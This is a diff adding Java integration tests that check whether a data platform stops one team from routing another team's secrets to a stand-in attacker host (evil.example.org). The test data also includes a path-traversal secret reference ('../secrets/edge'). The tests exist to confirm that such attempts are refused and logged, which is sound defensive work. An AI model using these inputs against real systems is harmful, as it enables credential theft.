@@ -401,4 +401,206 @@ class SignInIT {
     assertThat(anonymous.exitCode()).isEqualTo(1);
     assertThat(anonymous.err()).contains("no token was found", "--data-dir", "[UNAUTHENTICATED]");
   }
+
+  private static final String LEDGER = "{env: BACKLOT_SECRET_LEDGER}";
+  private static final String EDGE = "{file: edge}";
+
+  private static String connection(String name, String owner, String password) {
+    return """
+        apiVersion: backlot/v1
+        kind: Connection
+        name: %s
+        owner: %s
+        type: postgresql
+        config: {host: evil.example.org, database: d, user: u, password: %s}
+        tables: {include: [public.movie]}
+        """
+        .formatted(name, owner, password);
+  }
+
+  private static String endpoint(String name, String owner, String header) {
+    return """
+        apiVersion: backlot/v1
+        kind: Endpoint
+        name: %s
+        owner: %s
+        type: graphql
+        config: {url: "https://evil.example.org/graphql", headers: {X-Key: %s}}
+        """
+        .formatted(name, owner, header);
+  }
+
+  /** Somebody of the team post-production, beside which production has secrets. */
+  private static Person besides(String name) {
+    platform.dataPlane.secrets.clear();
+    platform.dataPlane.secrets.addAll(
+        List.of(
+            Map.of("env", "BACKLOT_SECRET_FREE"),
+            Map.of("env", "BACKLOT_SECRET_LEDGER"),
+            Map.of("env", "BACKLOT_SECRET_OWN"),
+            Map.of("env", "BACKLOT_SECRET_POST"),
+            Map.of("file", "edge")));
+    Answer applied =
+        platform.apply(
+            connection("ledger", "production", LEDGER),
+            endpoint("edge_api", "production", EDGE),
+            connection("post", "post-production", "{env: BACKLOT_SECRET_POST}"));
+    assertThat(applied.status()).as(applied.body().toString()).isEqualTo(200);
+    Person person = new Person(platform);
+    person.signIn(name, user(name, "builder"));
+    platform.dataPlane.calls.clear();
+    platform.dataPlane.comingEndpoints.clear();
+    return person;
+  }
+
+  @Test
+  void nobody_sends_another_teams_secret_to_a_host_of_their_own() {
+    Person mallory = besides("mallory");
+    String thief = connection("thief", "post-production", LEDGER);
+    String enriched =
+        """
+        apiVersion: backlot/v1
+        kind: Pipeline
+        name: asks
+        owner: post-production
+        steps:
+          - {id: movies, source: post.public.movie}
+          - id: e
+            processor: graphql_enrichment
+            from: movies
+            config:
+              endpoint: thief_api
+              query: "query ($ids: [ID!]!) { movies(ids: $ids) { id a } }"
+              variables: {ids: id}
+              match: {id: id}
+              take: {a: a}
+          - {id: w, sink: iceberg, from: e, config: {table: post.asks}}
+        """;
+    platform.capture("post", "movie");
+
+    Answer checked = mallory.post("/api/v1/connections/check", Map.of("document", thief));
+    Answer repointed =
+        mallory.post(
+            "/api/v1/connections/check",
+            Map.of("document", connection("ledger", "production", LEDGER)));
+    Answer applied = mallory.post("/api/v1/apply", TestPlatform.request(false, thief));
+    Answer planned =
+        mallory.post(
+            "/api/v1/plan",
+            TestPlatform.request(
+                false,
+                thief,
+                endpoint("thief_api", "post-production", EDGE),
+                enriched,
+                """
+                apiVersion: backlot/v1
+                kind: Route
+                name: thief_route
+                owner: post-production
+                type: slack
+                config: {url: {file: Edge}}
+                """,
+                connection("broken", "post-production", LEDGER) + "colour: red\n"));
+    String sketch =
+        """
+        apiVersion: backlot/v1
+        kind: Pipeline
+        name: p
+        steps:
+          - {id: movies, source: post.public.movie}
+          - {id: r, processor: rename, from: movies, config: {fields: %s}}
+        """;
+    Answer previewed =
+        mallory.post("/api/v1/preview", Map.of("document", sketch.formatted(LEDGER)));
+    Answer outside =
+        mallory.post(
+            "/api/v1/apply",
+            TestPlatform.request(
+                false, connection("thief", "post-production", "{file: ../secrets/edge}")));
+
+    assertThat(checked.status()).isEqualTo(403);
+    assertThat(checked.at("code")).isEqualTo("FORBIDDEN");
+    assertThat(checked.at("title"))
+        .isEqualTo(
+            "Cannot check connection 'thief': secret 'BACKLOT_SECRET_LEDGER', which its"
+                + " 'config.password' names, is used by 'production', which is not a team of"
+                + " yours. Name another secret, or ask that team, or an admin.");
+    assertThat(checked.at("problems", 0, "place", "path")).isEqualTo("config.password");
+    assertThat(repointed.status()).isEqualTo(403);
+    assertThat(applied.status()).isEqualTo(403);
+    assertThat(applied.at("title")).asString().startsWith("Cannot apply connection 'thief': ");
+    assertThat(planned.status()).isEqualTo(403);
+    assertThat(planned.at("problems").toString())
+        .contains(
+            "connection 'thief': secret 'BACKLOT_SECRET_LEDGER'",
+            "endpoint 'thief_api': secret 'edge', which its 'config.headers.X-Key' names",
+            "route 'thief_route': secret 'Edge'",
+            "connection 'broken': secret 'BACKLOT_SECRET_LEDGER'",
+            "colour");
+    assertThat((List<?>) planned.at("problems")).hasSize(5);
+    assertThat(previewed.status()).isEqualTo(403);
+    assertThat(previewed.at("title")).asString().contains("'steps[1].config.fields'");
+    assertThat(outside.status()).isEqualTo(400);
+    // nothing was told to what resolves secrets
+    assertThat(platform.dataPlane.calls)
+        .doesNotContain("POST /v1/preflight", "POST /v1/checkups", "POST /v1/previews");
+    assertThat(platform.dataPlane.comingEndpoints).isEmpty();
+    assertThat(platform.get("/api/v1/connections/thief").status()).isEqualTo(404);
+    Answer log = platform.get("/api/v1/access-log?by=mallory&outcome=refused&name=thief");
+    assertThat(log.at("items").toString()).contains("action=check", "action=apply", "action=plan");
+  }
+
+  @Test
+  void teams_use_their_own_secrets_and_those_that_nobody_uses_and_admins_all() {
+    Person builder = besides("trinity");
+    String changed =
+        connection("post", "post-production", "{env: BACKLOT_SECRET_POST}")
+            .replace("evil.example.org", "new.example.org");
+    String free = connection("fresh", "post-production", "{env: BACKLOT_SECRET_FREE}");
+
+    Answer checked = builder.post("/api/v1/connections/check", Map.of("document", changed));
+    Answer own = builder.post("/api/v1/apply", TestPlatform.request(false, changed));
+    Answer listed = builder.get("/api/v1/secrets");
+    Answer taken = builder.post("/api/v1/apply", TestPlatform.request(false, free));
+    Answer toAdmins = platform.get("/api/v1/secrets");
+    String lent = "{env: BACKLOT_SECRET_LENT}";
+    platform.apply(connection("lender", "production", lent));
+    Answer byAdmin = platform.apply(connection("borrower", "post-production", lent));
+    Answer shared =
+        builder.post(
+            "/api/v1/apply", TestPlatform.request(false, endpoint("e", "post-production", lent)));
+
+    assertThat(checked.status()).isEqualTo(200);
+    assertThat(platform.dataPlane.calls).contains("POST /v1/checkups");
+    assertThat(own.status()).as(own.body().toString()).isEqualTo(200);
+    assertThat(listed.at("items"))
+        .isEqualTo(
+            List.of(
+                Map.of("env", "BACKLOT_SECRET_FREE", "used_by", List.of()),
+                Map.of("env", "BACKLOT_SECRET_POST", "used_by", List.of("post"))));
+    assertThat(taken.status()).as(taken.body().toString()).isEqualTo(200);
+    assertThat((List<?>) toAdmins.at("items")).hasSize(5);
+    assertThat(byAdmin.status()).isEqualTo(200);
+    // what an admin lent is the team's as well
+    assertThat(shared.status()).as(shared.body().toString()).isEqualTo(200);
+  }
+
+  @Test
+  void who_comes_first_has_the_secret_even_while_another_is_being_checked() {
+    Person builder = besides("late");
+    String secret = "{env: BACKLOT_SECRET_RACE}";
+    platform.dataPlane.duringPreflight.put(
+        "late", () -> platform.apply(endpoint("first", "production", secret)));
+
+    Answer late =
+        builder.post(
+            "/api/v1/apply",
+            TestPlatform.request(false, connection("late", "post-production", secret)));
+
+    assertThat(late.status()).isEqualTo(403);
+    assertThat(late.at("title")).asString().contains("'BACKLOT_SECRET_RACE'", "'production'");
+    assertThat(platform.get("/api/v1/connections/late").status()).isEqualTo(404);
+    assertThat(platform.get("/api/v1/access-log?by=late&outcome=refused").at("items").toString())
+        .contains("config.password");
+  }
 }
